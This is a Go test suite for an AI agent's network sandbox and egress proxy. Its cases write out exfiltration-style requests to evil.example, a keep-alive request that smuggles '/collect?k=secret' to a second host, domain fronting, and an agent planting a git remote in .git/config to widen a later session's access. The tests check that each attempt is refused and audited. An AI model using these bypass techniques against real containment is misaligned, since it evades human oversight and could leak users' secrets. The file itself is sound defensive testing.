//go:build linux

package main

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/hookctl/hookctl/audit"
	"github.com/hookctl/hookctl/internal/loopback"
	"github.com/hookctl/hookctl/session"
)

// server is a web server on the machine's own loopback, outside every sandbox, counting the
// requests that reach it.
type server struct {
	addr string
	hits atomic.Int32
}

func newServer(t *testing.T) *server {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	s := &server{addr: l.Addr().String()}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.hits.Add(1)
		fmt.Fprintf(w, "served %s\n", r.URL.Path)
	})}
	go srv.Serve(l)
	t.Cleanup(func() { srv.Close() })
	return s
}

func (w *editWorld) config(t *testing.T, text string) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(w.hh, "config.toml"), []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestEditSandboxNetwork runs edit mode's commands for real, as root and as an unprivileged
// user, against servers on the machine's loopback: the command's network is its own namespace,
// whose only way out is the egress proxy, which admits the hosts of the user's [network] allow
// (and the registries, and the project's remotes as they were when the session started) and
// nothing else; each refusal is on the command's standard error and in the audit; no proxy
// process outlives the command; and network.edit = "full" gives the command the user's network.
func TestEditSandboxNetwork(t *testing.T) {
	requireTool(t, "curl")
	forEditWorlds(t, editSandboxNetwork)
}

func editSandboxNetwork(t *testing.T, w *editWorld) {
	allowed, other := newServer(t), newServer(t)
	echo := loopback.Echo(t)
	w.config(t, fmt.Sprintf("[network]\nallow = [%q, %q]\n", allowed.addr, echo))
	echoHost, echoPort, _ := net.SplitHostPort(echo)
	host, port, _ := net.SplitHostPort(allowed.addr)
	_, otherPort, _ := net.SplitHostPort(other.addr)
	// A remote the agent adds now is not a host the session may reach: the proxy refuses it as
	// not allowed (were it admitted, as a remote's host, it would be refused as loopback).
	if out, err := w.run(t, fmt.Sprintf("git init -q . && git remote add evil http://%s/x.git && echo added", other.addr)); !strings.Contains(out, "added") {
		t.Fatalf("git remote add: %v %s", err, out)
	}
	for _, c := range []struct {
		name, script string
		want         []string
	}{
		{"the user's allowed host, through the proxy",
			fmt.Sprintf("curl -sS --noproxy '' http://%s/through", allowed.addr), []string{"served /through"}},
		{"the same host, tunnelled",
			fmt.Sprintf("curl -sS --noproxy '' -p http://%s/tunnel", allowed.addr), []string{"served /tunnel"}},
		{"git through the proxy to the allowed host (no repository there: the server's 404)",
			fmt.Sprintf("NO_PROXY= no_proxy= git ls-remote http://%s/repo.git; echo status $?", allowed.addr), []string{"repo.git/info/refs not valid", "status 128"}},
		{"a direct connection to the machine's loopback: the command's loopback is its own",
			fmt.Sprintf("exec 3<>/dev/tcp/%s/%s && echo connected || echo refused", host, port), []string{"refused"}},
		{"a host that is not allowed",
			"curl -sS -m 5 https://evil.example/; echo status $?",
			[]string{"evil.example:443 was refused (not an allowed host)", "WebFetch", "status 56"}},
		{"plain http to a host that is not allowed",
			"curl -sS -m 5 http://evil.example/x; echo status $?", []string{"evil.example:80 was refused"}},
		{"a remote added in the session",
			fmt.Sprintf("curl -sS --noproxy '' http://%s/; echo", other.addr), []string{"127.0.0.1:" + otherPort + " was refused (not an allowed host)"}},
		{"an address outside, without the proxy",
			`python3 -c "import socket; socket.create_connection(('192.0.2.1', 443), timeout=3)" 2>&1 | tail -1`,
			[]string{"Network is unreachable"}},
		{"UDP out (a DNS query)",
			`python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53))" 2>&1 | tail -1`,
			[]string{"Network is unreachable"}},
		{"git's ssh goes through the proxy",
			`echo "$GIT_SSH_COMMAND"`, []string{"ssh -o ProxyCommand=", "sandbox --proxy-connect %h %p"}},
		{"ssh's ProxyCommand tunnels to an allowed host and port",
			// An SSH client's first bytes are its banner: a tunnel carries SSH, TLS or HTTP only.
			fmt.Sprintf("echo SSH-2.0-over-the-tunnel | %s sandbox --proxy-connect %s %s", w.bin, echoHost, echoPort), []string{"echo: SSH-2.0-over-the-tunnel"}},
		{"ssh's ProxyCommand to a host that is not allowed",
			fmt.Sprintf("%s sandbox --proxy-connect evil.example 22; echo status $?", w.bin),
			[]string{"the egress proxy refused evil.example:22 (HTTP/1.1 403 Forbidden: not an allowed host)", "status 3"}},
		// Issue 24: the proxy judges every request on a connection, and what a tunnel carries.
		{"keep-alive: curl's second URL, on the same connection to the proxy, to a host that is not allowed",
			fmt.Sprintf("curl -sS --noproxy '' http://%s/first http://%s/second; echo", allowed.addr, other.addr),
			[]string{"served /first", "127.0.0.1:" + otherPort + " was refused (not an allowed host)"}},
		{"keep-alive: the issue's bytes, a second request naming another Host",
			fmt.Sprintf(`p=${HTTP_PROXY#http://}; p=${p%%/}; exec 3<>/dev/tcp/${p%%:*}/${p##*:}; `+
				`printf 'GET http://%[1]s/ok HTTP/1.1\r\nHost: %[1]s\r\n\r\nGET /collect?k=secret HTTP/1.1\r\nHost: %[2]s\r\n\r\n' >&3; timeout 3 cat <&3`,
				allowed.addr, other.addr),
			[]string{"served /ok", "X-Hookctl-Refused: a proxy request names an absolute http:// URL"}},
		{"a TLS ClientHello through a tunnel to the allowed host, naming another (domain fronting)",
			`python3 -c "
import os, socket, ssl
p = os.environ['HTTPS_PROXY'].split('//')[1].rstrip('/').split(':')
s = socket.create_connection((p[0], int(p[1])), 5)
s.sendall(b'CONNECT ` + allowed.addr + ` HTTP/1.1\r\n\r\n'); print(s.recv(100).split(b'\r\n')[0].decode())
try:
    ssl.create_default_context().wrap_socket(s, server_hostname='evil.example'); print('handshake')
except Exception as e: print('failed', type(e).__name__)
" 2>&1`,
			[]string{"HTTP/1.1 200 Connection established", "failed", `names "evil.example"`}},
		{"a proxy variable the command sets is only a way to the same proxy",
			fmt.Sprintf("HTTPS_PROXY=http://%[1]s https_proxy=http://%[1]s curl -sS -m 5 https://evil.example/; echo status $?", other.addr), []string{"status 7"}},
	} {
		out, err := w.run(t, c.script)
		for _, want := range c.want {
			if !strings.Contains(out, want) {
				t.Errorf("%s: %q: %v\n%s\nwant %q", c.name, c.script, err, out, want)
			}
		}
	}
	if n := other.hits.Load(); n != 0 {
		t.Errorf("the server that is not allowed was reached %d times", n)
	}
	if n := allowed.hits.Load(); n != 5 {
		t.Errorf("the allowed server was reached %d times, want 5", n)
	}
	// The audit has each command's connections: the allowed host with its rule, the refusals
	// with their reasons.
	var allowedSeen, refusedSeen bool
	entries, _, err := audit.AuditAt(w.hh).Entries()
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		if e.Kind != audit.KindEgress || e.Session != w.session {
			continue
		}
		allowedSeen = allowedSeen || e.Host == allowed.addr && e.Outcome == "allowed" && e.Connections >= 1 && e.Rule == allowed.addr && e.Bytes > 0
		refusedSeen = refusedSeen || e.Host == "evil.example:443" && e.Outcome == "refused" && e.Error == "not an allowed host"
	}
	if !allowedSeen || !refusedSeen {
		b, _ := json.MarshalIndent(entries, "", " ")
		t.Errorf("the audit lacks the egress (allowed %v, refused %v):\n%s", allowedSeen, refusedSeen, b)
	}
	// The proxy, and for root the watcher beside the command, end with the command.
	worker := filepath.Join(filepath.Dir(w.bin), "hookctl-network")
	for deadline := time.Now().Add(3 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		left := append(processesOf(worker), processesOf(w.bin)...)
		if len(left) == 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Errorf("egress proxies outlived their commands: pids %v", left)
			break
		}
	}
	// The user's choice of the whole network: the same direct connection reaches the server.
	w.config(t, "[network]\nedit = \"full\"\n")
	if out, err := w.run(t, fmt.Sprintf("exec 3<>/dev/tcp/%s/%s && printf 'GET /full HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3", host, port)); !strings.Contains(out, "served /full") {
		t.Errorf("network.edit = full: %v\n%s", err, out)
	}
}

// processesOf lists the processes running the executable at path.
func processesOf(path string) []string {
	var pids []string
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		if exe, err := os.Readlink(filepath.Join("/proc", e.Name(), "exe")); err == nil && exe == path {
			pids = append(pids, e.Name())
		}
	}
	return pids
}

// TestSessionRecordsItsRemotes: the hosts the egress proxy admits as the project's remotes are
// the remotes when hookctl first saw a session in the project, kept in its home, where the
// agent cannot write; the session's state has them too.
func TestSessionRecordsItsRemotes(t *testing.T) {
	project := t.TempDir()
	os.MkdirAll(filepath.Join(project, ".git"), 0o755)
	os.WriteFile(filepath.Join(project, ".git", "config"), []byte("[remote \"origin\"]\n\turl = git@github.com:o/r.git\n"), 0o644)
	home := t.TempDir()
	out, code, _ := runBin(t, home, `{"session_id":"remotes-1","cwd":"`+filepath.Join(project)+`","hook_event_name":"SessionStart","source":"startup"}`, "hook")
	if code != 0 {
		t.Fatalf("session start: %d %s", code, out)
	}
	sess, err := session.NewStore(home).Load("remotes-1")
	if err != nil || strings.Join(sess.Remotes, " ") != "github.com github.com:22" { // an ssh remote: its web ports and its ssh port
		t.Fatalf("session %+v %v", sess, err)
	}
	r, err := session.NewProjects(home).Load(project)
	if err != nil || strings.Join(r.Hosts(), " ") != "github.com github.com:22" {
		t.Fatalf("the project's record: %+v %v", r, err)
	}
}

// TestPlantedRemoteOpensNothing (issue 24): an edit-mode command plants a remote in the
// project's .git/config — a pushurl on origin, a new remote — for the next session, which used
// to record it as one of the project's remotes at its start and let it through. Run for real,
// as root and as an unprivileged user: the plant lands (the control: .git/config, as the old
// session start read it, names both hosts), and in the next session the proxy refuses both as
// hosts that are not allowed (a remote's host would have been refused only as loopback); the
// agent cannot add a remote (the hook refuses `hookctl remotes add`, and the sandbox cannot
// write hookctl's home); doctor and `hookctl remotes` name the planted hosts as not reached;
// and a host the human adds is reached from then on.
func TestPlantedRemoteOpensNothing(t *testing.T) {
	requireTool(t, "curl")
	requireTool(t, "git")
	forEditWorlds(t, plantedRemoteOpensNothing)
}

func plantedRemoteOpensNothing(t *testing.T, w *editWorld) {
	planted := newServer(t)
	// The human's own remote, added as the user does.
	if out, err := w.cli("remotes", "add", "github.com", "--project", w.project); err != nil || !strings.Contains(out, "github.com") {
		t.Fatalf("remotes add: %v %s", err, out)
	}
	plant := fmt.Sprintf("git init -q . && git remote add origin https://github.com/o/r.git && "+
		"git config remote.origin.pushurl http://%s/x.git && git remote add mirror http://evil.example/x.git && echo planted", planted.addr)
	if out, err := w.run(t, plant); !strings.Contains(out, "planted") {
		t.Fatalf("the plant: %v %s", err, out)
	}
	plantedHost, _, _ := net.SplitHostPort(planted.addr)
	old := session.ProjectRemotes(w.project) // what a session's start recorded before
	if !slices.Contains(old, planted.addr) || !slices.Contains(old, "evil.example") {
		t.Fatalf("control: .git/config does not name the planted hosts (%q); the test proves nothing", old)
	}
	// The next session, which the human starts and takes to edit mode.
	next := w.session + "-next"
	w.startEditSession(t, next)
	w.session = next
	for _, c := range []struct{ script, want string }{
		{fmt.Sprintf("curl -sS -m 5 --noproxy '' http://%s/x.git/info/refs; echo", planted.addr), planted.addr + " was refused (not an allowed host)"},
		{"curl -sS -m 5 http://evil.example/x.git/info/refs; echo", "evil.example:80 was refused (not an allowed host)"},
		{"curl -sS -m 5 https://evil.example/; echo", "evil.example:443 was refused (not an allowed host)"},
		// The agent adds the host as a remote of its own: the sandbox cannot write the record.
		{w.bin + " remotes add evil.example; echo status $?", "failed to add evil.example"},
	} {
		if out, err := w.run(t, c.script); !strings.Contains(out, c.want) {
			t.Errorf("%q: %v\n%s\nwant %q", c.script, err, out, c.want)
		}
	}
	if _, refused := w.throughHook(t, "hookctl remotes add evil.example"); !refused {
		t.Error("the hook let the agent run hookctl remotes add")
	}
	if n := planted.hits.Load(); n != 0 {
		t.Errorf("the planted remote's server was reached %d times", n)
	}
	if out, _ := w.cli("remotes", "--project", w.project); !strings.Contains(out, "github.com") || strings.Contains(out, "github.com, "+plantedHost) ||
		!strings.Contains(out, ".git/config now also names evil.example, which edit mode does not reach") {
		t.Errorf("hookctl remotes:\n%s", out)
	}
	// The human adds the host: from then on the proxy admits it as a remote (and, with no
	// resolver here, fails to resolve it: it tried).
	if out, err := w.cli("remotes", "add", "evil.example", "--project", w.project); err != nil {
		t.Fatalf("remotes add: %v %s", err, out)
	}
	if out, _ := w.run(t, "curl -sS -m 5 http://evil.example/; echo"); strings.Contains(out, "not an allowed host") ||
		!strings.Contains(out, "could not reach evil.example:80") {
		t.Errorf("after the human added evil.example:\n%s", out)
	}
}
